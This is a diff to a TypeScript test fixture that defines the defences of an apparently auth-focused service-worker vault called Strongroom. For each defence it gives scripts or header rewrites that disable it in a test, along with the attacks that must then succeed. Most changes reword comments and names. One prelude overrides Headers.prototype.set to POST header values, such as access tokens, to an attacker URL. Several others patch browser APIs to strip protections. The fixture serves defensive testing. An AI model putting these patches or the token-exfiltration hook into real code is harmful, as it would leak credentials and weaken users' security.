@@ -1,7 +1,7 @@
 import type { Engine } from "../e2e/engines/engine.js";
 import type { Facts } from "./attack.js";
 
-/** A defence of Strongroom's, how a test takes it away, and the attacks that must succeed then. */
+/** A defence of Strongroom, how a test removes it, and the attacks that must then succeed. */
 export interface Defence {
   /** Completes the sentence "without …". */
   name: string;
@@ -9,57 +9,57 @@ export interface Defence {
   engine?: Engine;
   /** `false`: the host sends none of its headers. Default: `true`. */
   headers?: boolean;
-  /** `false`: what Node.js refuses by itself gets its own error page. Default: `true`. */
+  /** `false`: requests that Node.js rejects get its own error page. Default: `true`. */
   redirectsRefused?: boolean;
-  /** Script before the worker's own, which takes the defence away. */
+  /** Script that runs before the worker's own and removes the defence. */
   prelude?: (facts: Facts) => string;
   /** Keys of the worker's configuration. */
   config?: Record<string, unknown>;
-  /** Changes one of the host's headers; without an answer it is left out. */
+  /** Changes one of the host's headers; `undefined` removes it. */
   rewrite?: (name: string, value: string) => string | undefined;
-  /** By name. */
+  /** Names of attacks. */
   attacks: string[];
-  /** What they must get. Default: anything. */
+  /** What they must obtain. Default: anything. */
   gain?: string;
 }
 
 export const DEFENCES: Defence[] = [
   {
-    name: "the host's page at the callback",
+    name: "the host headers",
     headers: false,
     attacks: [
-      "silent flow in a frame, worker unregistered",
-      "silent flow in a popup, worker unregistered",
-      "silent flow in a frame, before the worker's first activation",
+      "unregisters the worker and runs a silent flow in a frame",
+      "unregisters the worker and runs a silent flow in a popup",
+      "runs a silent flow in a frame before the worker's first activation",
     ],
   },
   {
-    name: "frame-src of the app, and the redirect, sandbox, frame-ancestors and X-Frame-Options at the callback",
+    name: "the app's frame-src and the callback's redirect, sandbox, frame-ancestors and X-Frame-Options",
     rewrite: (name, value) =>
       name === "X-Frame-Options" || name === "Location"
         ? undefined
         : value.replace(" frame-ancestors 'none'; sandbox", "").replace("frame-src 'none'", "frame-src *"),
-    attacks: ["silent flow in a frame, worker unregistered"],
+    attacks: ["unregisters the worker and runs a silent flow in a frame"],
   },
   {
-    name: "the redirect and sandbox at the callback, and Cross-Origin-Opener-Policy",
+    name: "the callback's redirect and sandbox, and Cross-Origin-Opener-Policy",
     rewrite: (name, value) =>
       name === "Cross-Origin-Opener-Policy" || name === "Location"
         ? undefined
         : value.replace("; sandbox", ""),
-    attacks: ["silent flow in a popup, worker unregistered"],
+    attacks: ["unregisters the worker and runs a silent flow in a popup"],
   },
   {
-    name: "the worker's own answer to the callback, on a plain host",
+    name: "the worker's response to the callback, on a plain host",
     headers: false,
     prelude: () => `
       const { addEventListener: listen } = self;
       self.addEventListener = (type, listener, ...rest) => listen.call(self, type, type !== "fetch" ? listener :
         (event) => { if (!event.request.url.includes("state=attack")) listener(event); }, ...rest);`,
-    attacks: ["silent flow in a frame"],
+    attacks: ["runs a silent flow in a frame"],
   },
   {
-    name: "the difference between a navigation and a fetch",
+    name: "the check of the mode and destination of API requests",
     prelude: () => `
       for (const [name, value] of [["mode", "cors"], ["destination", ""]]) {
         const { get } = Object.getOwnPropertyDescriptor(Request.prototype, name);
@@ -68,12 +68,12 @@ export const DEFENCES: Defence[] = [
         });
       }`,
     attacks: [
-      "a link of another site to the API on the app's origin",
-      "a form of another site for the API on the app's origin",
+      "links from another site to the API on the app's origin",
+      "submits a form of another site to the API on the app's origin",
     ],
   },
   {
-    name: "the same at the worker's endpoints",
+    name: "the check of the mode and destination at the endpoints",
     prelude: () => `
       for (const [name, value] of [["mode", "cors"], ["destination", ""]]) {
         const { get } = Object.getOwnPropertyDescriptor(Request.prototype, name);
@@ -81,59 +81,59 @@ export const DEFENCES: Defence[] = [
           get() { return this.url.includes("/auth/logout") ? value : get.call(this); },
         });
       }`,
-    attacks: ["sign the user out from another site"],
+    attacks: ["signs the user out from another site"],
   },
   {
-    name: "the browser's word on who is a keeper",
+    name: "the browser's description of who is a keeper",
     prelude: () => `
       const keeper = { type: { value: "sharedworker" }, url: { value: self.location.href } };
       if (self.Clients) Clients.prototype.get = async () => Object.create(Client.prototype, keeper);`,
-    attacks: ["the keeper's protocol from the page, under whatever URL it takes"],
+    attacks: ["speaks the keeper's protocol from pages, also at the worker's URL"],
   },
   {
-    name: "the message by which a vault tells the others of a sign-out",
+    name: "the message that announces a sign-out to other vaults",
     // Elsewhere the next vault claims every page and frame of the one that was unregistered.
     engine: "firefox",
     prelude: () => `
       BroadcastChannel.prototype.postMessage = () => {};`,
-    attacks: ["a vault that script has unregistered, which outlives the sign-out in a frame"],
+    attacks: ["keeps an unregistered vault alive in a frame to outlive the sign-out"],
   },
   {
-    name: "the refusal of redirects of an API that is a part of its origin",
+    name: "the refusal of redirects of an API that is part of its origin",
     prelude: () => `
       self.Request = new Proxy(Request, { construct: (target, [input, init]) =>
         new target(input, init?.redirect === "manual" ? { ...init, redirect: "follow" } : init) });`,
-    attacks: ["a redirect of the API to another path of its origin"],
+    attacks: ["uses a redirect of the API to another path of its origin"],
     gain: "access token",
   },
   {
-    name: "the names of the worker scripts in the app's policy",
+    name: "the worker scripts' names in worker-src",
     rewrite: (_name, value) => value.replace(/worker-src [^;]+/, "worker-src 'self'"),
-    attacks: ["a script file of the attacker's at the root of the app's origin as a service worker"],
+    attacks: ["registers a script at the root of the app's origin as a service worker"],
   },
   {
-    name: "the host's redirect in place of the server's own error page",
+    name: "the host's redirect of requests that it rejects",
     redirectsRefused: false,
     attacks: [
-      "silent flow in the top page, worker unregistered, and cookies that make the server refuse the callback",
+      "unregisters the worker, sets cookies so that the host rejects the callback, and runs a silent flow in the top page",
     ],
   },
   {
-    name: "frame-src of the app, which keeps the server's own error pages out of reach",
+    name: "the app's frame-src, which blocks the host's own error pages",
     redirectsRefused: false,
     rewrite: (_name, value) => value.replace("frame-src 'none'", "frame-src 'self'"),
-    attacks: ["a script file of the attacker's at the root of the app's origin as a service worker"],
+    attacks: ["registers a script at the root of the app's origin as a service worker"],
   },
   {
-    name: "the refusal of redirects at the token endpoint, and the worker's own policy",
+    name: "the refusal of redirects at the token endpoint, and the worker's policy",
     headers: false,
     prelude: () => `
       self.Request = new Proxy(Request, { construct: (target, [input, init]) =>
         new target(input, init?.redirect === "error" ? { ...init, redirect: "follow" } : init) });`,
-    attacks: ["a token endpoint that redirects to the attacker"],
+    attacks: ["uses a redirect of the token endpoint to its own server"],
   },
   {
-    name: "the comparison of destinations, and the policies of page and worker",
+    name: "the check of a request's URL, and the policies of page and worker",
     headers: false,
     prelude: ({ apiUrl, attackerUrl, siblingUrl }) => `
       if (self.InstallEvent) delete InstallEvent.prototype.addRoutes;
@@ -143,22 +143,22 @@ export const DEFENCES: Defence[] = [
         const strange = [${JSON.stringify(attackerUrl)}, ${JSON.stringify(siblingUrl)}].some((home) => url.startsWith(home));
         return strange ? ${JSON.stringify(`${apiUrl}me`)} : url;
       } });`,
-    attacks: ["requests to hosts that look like the API"],
+    attacks: ["sends requests to hosts that look like the API"],
     gain: "access token",
   },
   {
-    name: "the worker's own policy, with a worker that has a traitor in it",
+    name: "the worker's policy, with a compromised worker",
     headers: false,
     prelude: ({ attackerUrl }) => `
       const { set } = Headers.prototype;
       Headers.prototype.set = function (name, value) {
-        fetch(${JSON.stringify(`${attackerUrl}/call-the-api-as-the-app-does/traitor`)}, { method: "POST", mode: "no-cors", body: value }).catch(() => {});
+        fetch(${JSON.stringify(`${attackerUrl}/calls-the-api-as-the-app-does/compromised`)}, { method: "POST", mode: "no-cors", body: value }).catch(() => {});
         return set.call(this, name, value);
       };`,
-    attacks: ["call the API as the app does"],
+    attacks: ["calls the API as the app does"],
     gain: "access token",
   },
 ];
 
-/** The same traitor under the worker's own policy: it gets nothing out. */
-export const TRAITOR = DEFENCES.at(-1) as Defence;
+/** The same compromised worker, which sends nothing out under the worker's policy. */
+export const COMPROMISED_WORKER = DEFENCES.at(-1) as Defence;
